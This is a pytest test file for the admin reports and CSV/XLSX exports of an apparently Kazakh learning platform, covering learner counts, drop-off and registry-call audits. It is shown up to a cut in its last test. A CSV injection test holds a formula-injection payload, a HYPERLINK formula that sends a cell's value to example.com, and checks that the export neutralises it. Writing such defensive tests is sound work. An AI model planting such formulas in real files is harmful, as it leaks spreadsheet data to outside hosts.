"""Reports for editors and the ministry: counts by day, course and language,
where learners stop, and the registry's checks; exported as CSV and XLSX."""

import csv
import datetime
import io
import re
import zoneinfo
from pathlib import Path

from django.contrib.staticfiles import finders
from django.utils import timezone, translation
from django.utils.formats import date_format
from django.utils.translation import gettext as _

from wagtail.users.models import UserProfile

import openpyxl
import pytest

from courses.factories import CoursePageFactory
from lms.factories import UserFactory
from progress.models import CourseCompletion, Enrollment, LessonCompletion
from registry.models import RegistryCall, RegistryCallKind, RegistryClient
from reports import queries
from reports.views import LearnersReport, sheet_title
from tests.lms.i18n import tr

ALMATY = zoneinfo.ZoneInfo("Asia/Almaty")
TODAY = datetime.date(2026, 11, 30)


def at(day: datetime.date, hour: int) -> datetime.datetime:
    return datetime.datetime.combine(day, datetime.time(hour), tzinfo=ALMATY)


def enrol(course, language, started, completed=None, region=""):
    user = UserFactory(region=region)
    enrollment = Enrollment.objects.create(user=user, course=course, language=language)
    Enrollment.objects.filter(pk=enrollment.pk).update(
        started_at=started, completed_at=completed
    )
    if completed:
        CourseCompletion.objects.create(user=user, course=course, language=language)
    return user


@pytest.fixture
def activity(guide_course):
    yesterday = TODAY - datetime.timedelta(days=1)
    enrol(guide_course, "kk", at(yesterday, 10), at(TODAY, 9), region="astana")
    enrol(guide_course, "kk", at(TODAY, 0), region="astana")  # 19:00 UTC before
    enrol(guide_course, "ru", at(TODAY, 12), at(TODAY, 13), region="karaganda")
    enrol(guide_course, "ru", at(TODAY, 14))
    enrol(guide_course, "kk", at(TODAY - datetime.timedelta(days=40), 12))
    return guide_course


@pytest.mark.django_db
def test_learners_are_counted_per_local_day_course_and_language(activity):
    rows = queries.learners_by_day(
        Enrollment.objects.all(), TODAY - datetime.timedelta(days=29), TODAY
    )
    figures = [
        (r["day"], r["language"], str(r["region"]), r["started"], r["completed"])
        for r in rows
    ]
    assert figures == [
        (TODAY, "Қазақша", "Астана қаласы", 1, 1),
        (TODAY, "Русский", "Қарағанды облысы", 1, 1),
        (TODAY, "Русский", "Көрсетілмеген", 1, 0),
        (TODAY - datetime.timedelta(days=1), "Қазақша", "Астана қаласы", 1, 0),
    ]
    assert {row["course"] for row in rows} == {"Бақытты отбасы"}


@pytest.mark.django_db
def test_drop_off_follows_the_lessons_in_order(guide_course, course_index):
    lessons = guide_course.lessons()
    started = [enrol(guide_course, "kk", timezone.now()) for _ in range(3)]
    for user, reached in zip(started, (3, 2, 1), strict=True):
        for lesson in lessons[:reached]:
            LessonCompletion.objects.create(
                user=user, lesson=lesson, course=guide_course
            )
    Enrollment.objects.filter(user=started[0]).update(completed_at=timezone.now())
    # A learner of another language and one who never enrolled in this course.
    other = enrol(guide_course, "ru", timezone.now())
    LessonCompletion.objects.create(user=other, lesson=lessons[0], course=guide_course)
    LessonCompletion.objects.create(
        user=UserFactory(), lesson=lessons[0], course=guide_course
    )

    rows = queries.drop_off(guide_course, Enrollment.objects.filter(language="kk"))

    assert [(r["step"], r["learners"], r["share"], r["stopped"]) for r in rows] == [
        (0, 3, 100.0, 0),
        (1, 3, 100.0, 1),  # the learner who did only lesson 1 stopped there
        (2, 2, 66.7, 1),
        (3, 1, 33.3, 0),  # the one who did all three completed the course
        (4, 1, 33.3, ""),
    ]
    assert [r["title"] for r in rows[1:4]] == ["Сабақ 1", "Сабақ 2", "Сабақ 3"]


@pytest.mark.django_db
def test_drop_off_of_a_cohort_of_local_days(admin_client, activity):
    def started(period_from, period_to):
        response = admin_client.get(
            "/admin/figures/drop-off/",
            {"period_from": period_from, "period_to": period_to, "export": "csv"},
        )
        lines = list(
            csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
        )
        return int(lines[1][2])  # the "started the course" row's learners

    assert started("2026-11-30", "2026-11-30") == 3  # one of them at 00:00 local
    assert started("2026-11-29", "2026-11-30") == 4
    assert started("2026-01-01", "2026-11-28") == 1


def hashes(count: int) -> list[str]:
    return [f"{number:064x}" for number in range(count)]


def registry_calls(calls, when=None):
    """``calls``: (client, kind, HTTP status, result, IIN hashes), as
    ``registry.services.record_call`` writes them."""
    for caller, kind, status, result, asked in calls:
        call = RegistryCall.objects.create(
            client=caller, kind=kind, http_status=status, result=result
        )
        RegistryCall.objects.filter(pk=call.pk).update(
            iin_hashes=asked, called_at=when or at(TODAY, 11)
        )


VERIFY, GUIDE_STATUS = RegistryCallKind.VERIFY, RegistryCallKind.GUIDE_STATUS


@pytest.fixture
def registry_activity(db):
    client = RegistryClient.objects.create(name="ХАЖ", token_hash="x" * 64)
    registry_calls(
        [
            (client, VERIFY, 200, "valid", hashes(1)),
            (client, VERIFY, 200, "valid", hashes(1)),
            (client, VERIFY, 200, "revoked", hashes(1)),
            (client, VERIFY, 200, "not_found", hashes(1)),
            (client, VERIFY, 422, "invalid IIN", hashes(1)),
            (None, VERIFY, 401, "no valid token", []),
        ]
    )
    registry_calls(
        [
            (client, GUIDE_STATUS, 200, "1 of 2 completed", hashes(2)),
            (client, GUIDE_STATUS, 200, "0 of 3 completed", hashes(3)),
            (client, GUIDE_STATUS, 422, "invalid IIN at 3", hashes(4)),
        ],
        when=at(TODAY, 10),
    )
    return client


@pytest.mark.django_db
def test_registry_checks_are_counted_per_day_client_and_answer(registry_activity):
    """Verify answers only on rows of verify calls, and the IINs asked only on rows
    of guide-status calls: elsewhere the cell is empty, not 0."""
    rows = queries.registry_calls_by_day(RegistryCall.objects.all(), TODAY, TODAY)

    assert [
        (r["client"], r["calls"], r["answered"], r["valid"], r["revoked"])
        + (r["not_found"], r["iins_asked"])
        for r in rows
    ] == [
        ("ХАЖ", 3, 2, None, None, None, 5),  # the refused call's 4 IINs not asked
        ("ХАЖ", 5, 4, 2, 1, 1, None),
        (str(_("(no valid token)")), 1, 0, 0, 0, 0, None),
    ]


@pytest.mark.django_db
def test_guide_status_calls_none_answered_asked_about_no_iin(db):
    client = RegistryClient.objects.create(name="ХАЖ", token_hash="x" * 64)
    registry_calls([(client, GUIDE_STATUS, 429, "rate limited", [])])

    (row,) = queries.registry_calls_by_day(RegistryCall.objects.all(), TODAY, TODAY)

    assert (row["calls"], row["answered"], row["iins_asked"]) == (1, 0, 0)
    assert (row["valid"], row["revoked"], row["not_found"]) == (None, None, None)


@pytest.fixture
def english_admin(admin_user):
    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = "en"
    profile.save()
    return admin_user


@pytest.mark.django_db
def test_the_registry_report_leaves_out_what_a_kind_of_call_cannot_answer(
    admin_client, english_admin, registry_activity
):
    day = {"period_from": TODAY.isoformat(), "period_to": TODAY.isoformat()}
    url = "/admin/figures/registry-calls/"

    html = admin_client.get(url, day).content.decode()
    table = html.split('<table class="listing')[1]
    headings = re.findall(r"<th[^>]*>\s*(.*?)\s*</th>", table, re.S)
    assert re.sub(r"<[^>]+>|\s+", " ", headings[-1]).strip() == "IINs asked"
    cells = [
        [
            re.sub(r"\s+", "", cell)
            for cell in re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
        ]
        for row in re.findall(r"<tr>(.*?)</tr>", table.split("<tbody>")[1], re.S)
    ]
    figures = [row[3:] for row in cells]
    assert figures == [
        ["3", "2", "", "", "", "5"],
        ["5", "4", "2", "1", "1", ""],
        ["1", "0", "0", "0", "0", ""],
    ]

    body = b"".join(admin_client.get(url, day | {"export": "csv"}).streaming_content)
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    assert lines[0][-1] == "IINs asked"
    assert [line[3:] for line in lines[1:]] == figures

    xlsx = admin_client.get(url, day | {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert [[cell.value for cell in row[3:]] for row in sheet.iter_rows(min_row=2)] == [
        [3, 2, None, None, None, 5],
        [5, 4, 2, 1, 1, None],
        [1, 0, 0, 0, 0, None],
    ]


@pytest.mark.django_db
def test_staff_filter_the_learners_report_and_export_it(admin_client, activity):
    url = "/admin/figures/learners/"
    page = admin_client.get(
        url, {"period_from": "2026-11-29", "period_to": "2026-11-30"}
    )
    assert page.status_code == 200
    html = page.content.decode()
    assert "Бақытты отбасы" in html and "Русский" in html
    emails = Enrollment.objects.values_list("user__email", flat=True)
    assert not any(email in html for email in emails)  # counts, never learners

    exported = admin_client.get(
        url, {"period_from": "2026-11-01", "period_to": "2026-11-30", "export": "csv"}
    )
    assert exported.status_code == 200
    assert "learners-2026-11-01-2026-11-30.csv" in exported["Content-Disposition"]
    body = b"".join(exported.streaming_content)
    assert body.startswith(b"\xef\xbb\xbf")  # UTF-8 marked, for Excel
    assert exported["Content-Type"] == "text/csv; charset=utf-8"
    lines = list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))
    with translation.override("kk"):  # the admin's language
        assert lines[0] == [str(column.label) for column in LearnersReport.columns]
    assert len(lines) == 1 + 4

    xlsx = admin_client.get(
        url, {"period_from": "2026-11-01", "period_to": "2026-11-30", "export": "xlsx"}
    )
    workbook = io.BytesIO(b"".join(xlsx.streaming_content))
    sheet = openpyxl.load_workbook(workbook).active
    assert [cell.value for cell in sheet[1]] == lines[0]
    assert sheet.max_row == 5

    only_ru = admin_client.get(
        url,
        {"period_from": "2026-11-01", "period_to": "2026-11-30", "language": "ru"}
        | {"export": "csv"},
    )
    lines = list(csv.reader(io.StringIO(b"".join(only_ru.streaming_content).decode())))
    assert [line[2] for line in lines[1:]] == ["Русский", "Русский"]

    karaganda = admin_client.get(
        url,
        {"period_from": "2026-11-01", "period_to": "2026-11-30"}
        | {"region": "karaganda", "export": "csv"},
    )
    lines = list(
        csv.reader(io.StringIO(b"".join(karaganda.streaming_content).decode()))
    )
    assert [(line[2], line[4], line[5]) for line in lines[1:]] == [
        ("Русский", "1", "1")
    ]


@pytest.mark.django_db
@pytest.mark.parametrize("slug", ["learners", "drop-off", "registry-calls"])
def test_every_report_renders_with_and_without_data(admin_client, guide_course, slug):
    assert admin_client.get(f"/admin/figures/{slug}/").status_code == 200
    results = admin_client.get(f"/admin/figures/{slug}/results/")
    assert results.status_code == 200
    bad = admin_client.get(f"/admin/figures/{slug}/", {"period_from": "not a date"})
    assert bad.status_code == 200


@pytest.mark.django_db
def test_reports_are_shown_only_to_staff_with_the_reports_permission(
    client, guide_course
):
    from django.contrib.auth.models import Group, Permission

    editor = UserFactory(is_staff=True)
    editor.user_permissions.add(Permission.objects.get(codename="access_admin"))
    client.force_login(editor)
    reports = ("learners", "drop-off", "registry-calls")
    for slug in reports:
        assert client.get(f"/admin/figures/{slug}/").status_code in (302, 403)
    menu = client.get("/admin/").content.decode()
    assert "/admin/figures/learners/" not in menu

    # Seeing learners' rows or the audit log is not seeing the reports.
    support = Group.objects.create(name="Support")
    support.permissions.add(
        Permission.objects.get(codename="view_enrollment"),
        Permission.objects.get(codename="view_registrycall"),
    )
    editor.groups.add(support)
    for slug in reports:
        assert client.get(f"/admin/figures/{slug}/").status_code in (302, 403)

    # The reports' permission shows all three, and no learner's row.
    editor.groups.set(
        [Group.objects.create(name="Analysts")],
    )
    editor.groups.get().permissions.add(
        Permission.objects.get(
            content_type__app_label="reports", codename="view_report"
        )
    )
    for slug in reports:
        assert client.get(f"/admin/figures/{slug}/").status_code == 200
    menu = client.get("/admin/").content.decode()
    assert "/admin/figures/learners/" in menu
    assert "/admin/progress_enrollments/" not in menu
    for section in ("progress_enrollments", "registry_calls"):
        assert client.get(f"/admin/{section}/").status_code in (302, 403)


@pytest.mark.django_db
def test_who_saw_the_reports_before_keeps_seeing_them():
    """The migration that gave the reports their own permission gives it to those
    who saw them through the rows' permissions."""
    import importlib

    from django.apps import apps
    from django.contrib.auth.models import Group, Permission

    grant = importlib.import_module("reports.migrations.0002_grant_view_report").grant
    view_report = Permission.objects.get(codename="view_report")
    view_report.group_set.clear()
    analysts = Group.objects.create(name="Analysts")
    analysts.permissions.add(Permission.objects.get(codename="view_enrollment"))
    auditors = Group.objects.create(name="Auditors")
    auditors.permissions.add(Permission.objects.get(codename="view_registrycall"))
    Group.objects.create(name="Editors of nothing")
    person = UserFactory(is_staff=True)
    person.user_permissions.add(Permission.objects.get(codename="view_enrollment"))

    grant(apps, None)
    grant(apps, None)  # a second run changes nothing

    assert set(view_report.group_set.values_list("name", flat=True)) == {
        "Analysts",
        "Auditors",
    }
    assert list(view_report.user_set.all()) == [person]
    assert type(person).objects.get(pk=person.pk).has_perm("reports.view_report")


def test_report_titles_are_translated():
    for language in ("kk", "ru"):
        with translation.override(language):
            assert str(LearnersReport.page_title) != "Learners by day"


@pytest.mark.django_db
def test_a_name_a_spreadsheet_would_run_goes_out_as_text(admin_client):
    """CSV injection: a client's name starting with "=" must not become a formula."""
    name = '=HYPERLINK("http://example.com/?"&A1,"ХАЖ")'
    client = RegistryClient.objects.create(name=name, token_hash="y" * 64)
    RegistryCall.objects.create(
        client=client, kind=RegistryCallKind.VERIFY, http_status=200, result="valid"
    )
    RegistryCall.objects.create(
        client=RegistryClient.objects.create(name="-1+1", token_hash="z" * 64),
        kind=RegistryCallKind.VERIFY,
        http_status=200,
        result="valid",
    )
    today = timezone.localdate().isoformat()
    response = admin_client.get(
        "/admin/figures/registry-calls/",
        {"period_from": today, "period_to": today, "export": "csv"},
    )
    body = b"".join(response.streaming_content).decode("utf-8-sig")
    clients = {line[1] for line in csv.reader(io.StringIO(body))}
    assert "'" + name in clients and "'-1+1" in clients
    assert name not in clients
    counts = [line[3] for line in list(csv.reader(io.StringIO(body)))[1:]]
    assert counts == ["1", "1"]  # numbers stay numbers


@pytest.mark.django_db
def test_an_export_is_in_the_admins_language_not_the_browsers(
    admin_client, admin_user, activity
):
    """Wagtail activates the admin's language for the view only; a CSV written as
    the response is sent came out in the browser's language."""
    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = "ru"
    profile.save()
    response = admin_client.get(
        "/admin/figures/learners/",
        {"period_from": "2026-11-30", "period_to": "2026-11-30", "export": "csv"},
        HTTP_ACCEPT_LANGUAGE="en",
    )
    lines = list(
        csv.reader(
            io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))
        )
    )
    with translation.override("ru"):
        assert lines[0] == [str(column.label) for column in LearnersReport.columns]
        assert lines[0][0] == "День"
        assert [line[3] for line in lines[1:]] == [
            "город Астана",
            "Карагандинская область",
            _("Not stated"),
        ]


@pytest.mark.django_db
def test_what_the_figures_cover_follows_the_filters(admin_client, activity):
    """The admin's filters refresh the results only, so the period and the course
    the figures cover are shown with them, not in the page's header."""
    learners = admin_client.get(
        "/admin/figures/learners/results/",
        {"period_from": "2026-11-29", "period_to": "2026-11-30"},
    ).content.decode()
    assert "Кезең: 29.11.2026 – 30.11.2026" in learners

    academy = CoursePageFactory(
        parent=activity.get_parent(), kind="parents", title="Ата-аналар академиясы"
    )
    drop_off = admin_client.get(
        "/admin/figures/drop-off/results/", {"course": academy.pk}
    ).content.decode()
    assert "Курс: Ата-аналар академиясы" in drop_off


@pytest.mark.django_db
def test_counts_line_up_on_the_right(admin_client, activity):
    """The admin's tables align every cell on the left (``.listing td``); the
    cells of counts bring a stylesheet that aligns them on the right."""
    page = admin_client.get(
        "/admin/figures/learners/",
        {"period_from": "2026-11-29", "period_to": "2026-11-30"},
    ).content.decode()
    rules = "".join(
        Path(finders.find(href)).read_text()
        for href in re.findall(r'<link href="/static/([^"?]+\.css)', page)
        if finders.find(href)
    )
    counts = re.findall(r'<td class="([^"]+)">\s*\d+\s*</td>', page)
    assert len(counts) == 2 * 4  # started and completed, four rows
    for classname in set(counts):
        rule = rf"\.listing td\.{re.escape(classname)}\b[^{{]*{{[^}}]*text-align: end"
        assert re.search(rule, rules), classname


@pytest.mark.django_db
def test_where_learners_stop_is_their_furthest_lesson(guide_course):
    """A learner who skipped ahead stopped at the furthest lesson they did, and one
    who did none stopped at the start."""
    first, second, third = guide_course.lessons()
    skipper = enrol(guide_course, "kk", timezone.now())
    for lesson in (first, third):
        LessonCompletion.objects.create(
            user=skipper, lesson=lesson, course=guide_course
        )
    enrol(guide_course, "kk", timezone.now())

    rows = queries.drop_off(guide_course, Enrollment.objects.all())

    assert [(r["learners"], r["stopped"]) for r in rows] == [
        (2, 1),
        (1, 0),
        (0, 0),
        (1, 1),
        (0, ""),
    ]


@pytest.mark.django_db
def test_a_completion_counts_in_the_language_it_happened_in(admin_client, guide_course):
    user = enrol(guide_course, "kk", at(TODAY, 9), at(TODAY, 18))
    CourseCompletion.objects.filter(user=user).update(language="ru")

    rows = queries.learners_by_day(Enrollment.objects.all(), TODAY, TODAY)
    assert [(r["language"], r["started"], r["completed"]) for r in rows] == [
        ("Қазақша", 1, 0),
        ("Русский", 0, 1),
    ]
    only_ru = queries.learners_by_day(
        Enrollment.objects.all(), TODAY, TODAY, language="ru"
    )
    assert [(r["language"], r["started"], r["completed"]) for r in only_ru] == [
        ("Русский", 0, 1)
    ]
    page = admin_client.get(
        "/admin/figures/learners/results/",
        {"period_from": TODAY.isoformat(), "period_to": TODAY.isoformat()},
    ).content.decode()
    with translation.override("kk"):  # the admin's language
        summary = _("In all — started: %(started)s; completed: %(completed)s.")
    assert summary % {"started": 1, "completed": 1} in page


@pytest.mark.django_db
def test_learners_who_gave_no_region_can_be_chosen(admin_client, activity):
    exported = admin_client.get(
        "/admin/figures/learners/",
        {"period_from": "2026-11-01", "period_to": "2026-11-30"}
        | {"region": "none", "export": "csv"},
    )
    lines = list(csv.reader(io.StringIO(b"".join(exported.streaming_content).decode())))
    assert [(line[2], line[3], line[4]) for line in lines[1:]] == [
        ("Русский", _("Not stated"), "1")
    ]


@pytest.mark.django_db
def test_the_figures_are_of_kazakhstans_days_whatever_the_admins_zone(
    admin_client, admin_user, guide_course
):
    evening = datetime.datetime(2026, 11, 20, 18, 59, tzinfo=datetime.UTC)
    enrol(guide_course, "kk", evening)  # 20 Nov, 23:59 in Astana
    enrol(guide_course, "kk", evening + datetime.timedelta(minutes=1))  # 21 Nov
    period = {"period_from": "2026-11-20", "period_to": "2026-11-21", "export": "csv"}

    def days():
        response = admin_client.get("/admin/figures/learners/", period)
        body = b"".join(response.streaming_content).decode("utf-8-sig")
        return [(line[0], line[4]) for line in list(csv.reader(io.StringIO(body)))[1:]]

    in_astana = days()
    profile = UserProfile.get_for_user(admin_user)
    profile.current_time_zone = "UTC"
    profile.save()
    assert days() == in_astana == [("2026-11-21", "1"), ("2026-11-20", "1")]


@pytest.mark.django_db
@pytest.mark.parametrize(
    ("query", "error"),
    [
        ({"region": "xx"}, "Region"),
        ({"language": "ru", "course": "999999"}, "Course"),
        ({"period_to": "9999-12-31"}, "Choose days from 2000 to 2100."),
        ({"period_from": "0001-01-01"}, "Choose days from 2000 to 2100."),
        (
            {"period_from": "2026-11-23", "period_to": "2026-11-20"},
            "The period ends before it begins.",
        ),
    ],
)
@pytest.mark.parametrize("slug", ["learners", "drop-off", "registry-calls"])
def test_a_filter_that_is_not_valid_shows_its_error_and_no_figures(
    admin_client, admin_user, activity, slug, query, error
):
    """Wagtail leaves every filter out when one is not valid; the figures (and a
    file named after the filters) would then be of other rows than the filters
    say."""
    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = "en"
    profile.save()
    if slug == "registry-calls" and "region" in query:
        query, error = {"kind": "xx"}, "Kind"
    if slug == "registry-calls" and "course" in query:
        query, error = {"client": "999999"}, "Client"
    page = admin_client.get(f"/admin/figures/{slug}/", query)
    assert page.status_code == 200
    html = page.content.decode()
    assert "The figures are not shown because a filter is not valid" in html
    assert error in html.split("data-report-filter-errors")[1]
    assert "data-report-scope" not in html and '<table class="listing' not in html

    exported = admin_client.get(f"/admin/figures/{slug}/", query | {"export": "csv"})
    assert exported.status_code == 200
    assert "Content-Disposition" not in exported
    assert "The figures are not shown" in exported.content.decode()


@pytest.mark.django_db
def test_the_filter_errors_are_translated():
    from lms.filters import PeriodField

    for language in ("kk", "ru"):
        with translation.override(language):
            with pytest.raises(Exception) as raised:
                PeriodField().clean(["2026-11-23", "2026-11-20"])
            assert "The period ends" not in str(raised.value)


@pytest.mark.django_db
def test_the_totals_read_as_labels_whatever_the_number(
    admin_client, english_admin, guide_course
):
    """ "1 calls" in English, «1 запросов» in Russian: the totals are labelled
    figures, which need no plural forms."""
    enrol(guide_course, "kk", at(TODAY, 9), at(TODAY, 18))
    client = RegistryClient.objects.create(name="ХАЖ", token_hash="x" * 64)
    registry_calls([(client, VERIFY, 200, "valid", hashes(1))])
    day = {"period_from": TODAY.isoformat(), "period_to": TODAY.isoformat()}

    def summary(slug):
        page = admin_client.get(f"/admin/figures/{slug}/results/", day)
        html = page.content.decode()
        return re.search(r"data-report-summary>(.*?)</p>", html).group(1)

    assert summary("learners") == "In all — started: 1; completed: 1."
    assert summary("registry-calls") == "In all — calls: 1; answered: 1."


def active_filters(html: str) -> dict[str, str]:
    """The labels of the active filters' pills, by filter."""
    pills = re.findall(
        r'<span class="w-text-14">\s*(.*?):\s*</span>\s*<b class="w-ml-1">(.*?)</b>',
        html,
        re.S,
    )
    return {label.strip(): value.strip() for label, value in pills}


@pytest.mark.django_db
@pytest.mark.parametrize("slug", ["learners", "registry-calls"])
def test_a_period_that_begins_after_today_is_reversed(
    admin_client, english_admin, activity, slug
):
    """Without an end the period ends today: one beginning later ends before it
    begins, as much as one given both days the wrong way round."""
    url = f"/admin/figures/{slug}/"
    html = admin_client.get(url, {"period_from": "2100-01-01"}).content.decode()
    errors = html.split("data-report-filter-errors")[1]
    assert "Period: The period ends before it begins." in errors
    assert "data-report-scope" not in html and '<table class="listing' not in html
    exported = admin_client.get(url, {"period_from": "2100-01-01", "export": "csv"})
    assert "Content-Disposition" not in exported


@pytest.mark.django_db
def test_the_drop_off_counts_from_a_day_on_without_an_end(
    admin_client, english_admin, activity
):
    """The drop-off's period is when learners started, and an open end is open:
    no learner started after 2100, which is no mistake."""
    html = admin_client.get(
        "/admin/figures/drop-off/", {"period_from": "2100-01-01"}
    ).content.decode()
    assert "data-report-filter-errors" not in html
    assert active_filters(html)["Started in"] == "Jan. 1, 2100 - any"


@pytest.mark.django_db
@pytest.mark.parametrize("slug", ["learners", "registry-calls"])
def test_the_periods_label_names_the_days_counted(
    admin_client, english_admin, activity, slug
):
    """Given one end, a report counts the ``DEFAULT_DAYS`` up to it, or the days
    from it to today; the active filter says those days, not "any"."""
    url = f"/admin/figures/{slug}/results/"
    only_end = admin_client.get(url, {"period_to": "2026-11-10"}).content.decode()
    assert active_filters(only_end)["Period"] == "Oct. 12, 2026 - Nov. 10, 2026"
    assert "Period: 12.10.2026 – 10.11.2026" in only_end

    only_start = admin_client.get(url, {"period_from": "2026-11-01"}).content.decode()
    with timezone.override("Asia/Almaty"), translation.override("en"):
        today = date_format(timezone.localdate())
    assert active_filters(only_start)["Period"] == f"Nov. 1, 2026 - {today}"

    both = admin_client.get(
        url, {"period_from": "2026-11-01", "period_to": "2026-11-05"}
    )
    assert active_filters(both.content.decode())["Period"] == (
        "Nov. 1, 2026 - Nov. 5, 2026"
    )


@pytest.mark.django_db
def test_registry_clients_are_shown_by_name_and_counted_apart(
    admin_client, english_admin
):
    """The token's prefix is for those who manage the tokens, not the analysts;
    two clients of one name are two rows, told apart by the day they were added."""
    first = RegistryClient.objects.create(
        name="ХАЖ", token_prefix="bko_live_a1", token_hash="a" * 64
    )
    second = RegistryClient.objects.create(
        name="ХАЖ", token_prefix="bko_live_b2", token_hash="b" * 64
    )
    other = RegistryClient.objects.create(
        name="ЦОН", token_prefix="bko_live_c3", token_hash="c" * 64
    )
    RegistryClient.objects.filter(pk=first.pk).update(created_at=at(TODAY, 9))
    RegistryClient.objects.filter(pk=second.pk).update(
        created_at=at(TODAY - datetime.timedelta(days=3), 9)
    )
    for client in (first, second, second, other):
        registry_calls([(client, VERIFY, 200, "valid", hashes(1))])

    with translation.override("en"):
        rows = queries.registry_calls_by_day(RegistryCall.objects.all(), TODAY, TODAY)
    assert [(r["client"], r["calls"]) for r in rows] == [
        ("ХАЖ (added 27.11.2026)", 2),
        ("ХАЖ (added 30.11.2026)", 1),
        ("ЦОН", 1),
    ]

    html = admin_client.get(
        "/admin/figures/registry-calls/", {"client": other.pk}
    ).content.decode()
    options = re.findall(r'<option value="\d+"[^>]*>(.*?)</option>', html)
    assert options == ["ХАЖ (added 27.11.2026)", "ХАЖ (added 30.11.2026)", "ЦОН"]
    assert "bko_live" not in html
    assert active_filters(html)["Client"] == "ЦОН"


@pytest.mark.django_db
def test_clients_of_one_name_added_on_one_day_are_told_apart_by_the_time(db):
    for hour, token in ((9, "a"), (15, "b")):
        client = RegistryClient.objects.create(name="ХАЖ", token_hash=token * 64)
        RegistryClient.objects.filter(pk=client.pk).update(created_at=at(TODAY, hour))
    with translation.override("en"):
        names = sorted(queries.client_names().values())
    assert names == ["ХАЖ (added 30.11.2026 09:00)", "ХАЖ (added 30.11.2026 15:00)"]


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["kk", "ru"])
@pytest.mark.parametrize("slug", ["learners", "drop-off", "registry-calls"])
def test_the_spreadsheets_sheet_is_named_after_the_report(
    admin_client, admin_user, activity, slug, language
):
    from reports.wagtail_hooks import REPORTS

    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = language
    profile.save()
    xlsx = admin_client.get(f"/admin/figures/{slug}/", {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    view = {name.replace("_", "-"): view for name, view, _order in REPORTS}[slug]
    with translation.override(language):
        title = str(view.page_title)
    with translation.override("en"):
        assert title != str(view.page_title)
    assert sheet.title == title


def test_a_sheets_title_is_one_excel_takes():
    assert sheet_title("Тіркеу: [A/B] сұраулары * 2024? \\ жылы") == (
        "Тіркеу A B сұраулары 2024 жылы"
    )
    assert sheet_title("'" + "ж" * 40) == "ж" * 31
    assert sheet_title("[]:*?/\\") == "Sheet1"


@pytest.mark.django_db
def test_the_drop_off_says_no_number_of_matches(admin_client, english_admin, activity):
    """Wagtail's listings say how many rows match the filters; the drop-off's rows
    are the course's steps, whatever the filters, and no report's rows are
    matches of a search."""
    for slug in ("drop-off", "learners"):
        html = admin_client.get(
            f"/admin/figures/{slug}/", {"language": "kk"}
        ).content.decode()
        assert '<table class="listing' in html
        assert "match" not in html.split('<table class="listing')[0]


@pytest.mark.django_db
def test_an_exports_name_tells_its_filters(admin_client, activity):
    def filename(slug, query):
        response = admin_client.get(
            f"/admin/figures/{slug}/", query | {"export": "csv"}
        )
        return re.search(r'filename="(.+)"', response["Content-Disposition"]).group(1)

    course = f"course-{activity.pk}"  # the slug «бақытты-отбасы» is not ASCII
    period = {"period_from": "2026-11-01", "period_to": "2026-11-30"}
    assert filename("drop-off", {}) == f"drop-off-{course}.csv"
    assert filename("drop-off", {"language": "ru", "region": "astana"}) == (
        f"drop-off-{course}-ru-astana.csv"
    )
    assert filename("drop-off", {"region": "none"} | period) == (
        f"drop-off-{course}-no-region-2026-11-01-2026-11-30.csv"
    )
    assert filename("drop-off", {"period_to": "2026-11-30"}) == (
        f"drop-off-{course}-to-2026-11-30.csv"
    )
    academy = CoursePageFactory(
        parent=activity.get_parent(), kind="parents", slug="academy"
    )
    assert filename("drop-off", {"course": academy.pk, "language": "kk"}) == (
        "drop-off-academy-kk.csv"
    )

    assert filename("learners", period) == "learners-2026-11-01-2026-11-30.csv"
    assert filename("learners", period | {"course": activity.pk, "language": "kk"}) == (
        f"learners-{course}-kk-2026-11-01-2026-11-30.csv"
    )
    assert filename("learners", period | {"region": "karaganda"}) == (
        "learners-karaganda-2026-11-01-2026-11-30.csv"
    )

    client = RegistryClient.objects.create(name="ХАЖ", token_hash="x" * 64)
    assert filename(
        "registry-calls", period | {"client": client.pk, "kind": "guide-status"}
    ) == (f"registry-checks-client-{client.pk}-guide-status-2026-11-01-2026-11-30.csv")


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["kk", "ru"])
def test_counts_are_grouped_by_thousands_on_screen_only(
    admin_client, admin_user, guide_course, language, monkeypatch
):
    """«200 008», as Kazakh and Russian write it, in the table and the totals; the
    files keep plain numbers, which spreadsheets compute with."""
    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = language
    profile.save()
    many = [
        {
            "day": TODAY,
            "course": "Бақытты отбасы",
            "language": "Қазақша",
            "region": "Астана қаласы",
            "started": 200_008,
            "completed": 1_500,
        }
    ]
    monkeypatch.setattr(queries, "learners_by_day", lambda *args, **kwargs: many)
    day = {"period_from": TODAY.isoformat(), "period_to": TODAY.isoformat()}
    url = "/admin/figures/learners/"

    html = admin_client.get(url, day).content.decode()
    cells = re.findall(r'<td class="figure">\s*(.*?)\s*</td>', html, re.S)
    assert cells == ["200\xa0008", "1\xa0500"]
    summary = re.search(r"data-report-summary>(.*?)</p>", html).group(1)
    assert summary == tr(
        "In all — started: %(started)s; completed: %(completed)s.", language
    ) % {"started": "200\xa0008", "completed": "1\xa0500"}

    csv_body = admin_client.get(url, day | {"export": "csv"})
    body = b"".join(csv_body.streaming_content).decode("utf-8-sig")
    lines = list(csv.reader(io.StringIO(body)))
    assert lines[1][4:] == ["200008", "1500"]
    xlsx = admin_client.get(url, day | {"export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    assert [cell.value for cell in sheet[2]][4:] == [200008, 1500]


@pytest.mark.django_db
@pytest.mark.parametrize("language", ["kk", "ru"])
def test_registry_counts_and_shares_read_in_the_admins_language(
    admin_client, admin_user, activity, registry_activity, language, monkeypatch
):
    profile = UserProfile.get_for_user(admin_user)
    profile.preferred_language = language
    profile.save()
    rows = queries.registry_calls_by_day(RegistryCall.objects.all(), TODAY, TODAY)
    rows[0]["calls"], rows[0]["iins_asked"] = 12_345, 1_000_000
    monkeypatch.setattr(queries, "registry_calls_by_day", lambda *args: rows)
